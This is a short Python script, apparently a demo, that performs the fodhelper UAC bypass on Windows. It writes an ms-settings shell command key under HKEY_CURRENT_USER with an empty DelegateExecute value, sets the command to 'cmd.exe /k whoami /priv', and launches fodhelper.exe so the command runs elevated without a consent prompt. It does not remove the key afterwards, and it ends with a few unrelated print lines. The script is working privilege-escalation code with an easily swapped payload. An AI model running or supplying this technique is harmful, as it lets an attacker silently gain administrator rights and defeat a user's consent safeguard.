import os
import winreg

CMD = r"C:\Windows\System32\cmd.exe /k whoami /priv"
path = r"Software\Classes\ms-settings\shell\open\command"
key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, path)
winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")
winreg.SetValueEx(key, None, 0, winreg.REG_SZ, CMD)
winreg.CloseKey(key)
os.system(r"C:\Windows\System32\fodhelper.exe")
print("ok")
for i in range(2):
    print(i)
print("end of demo")
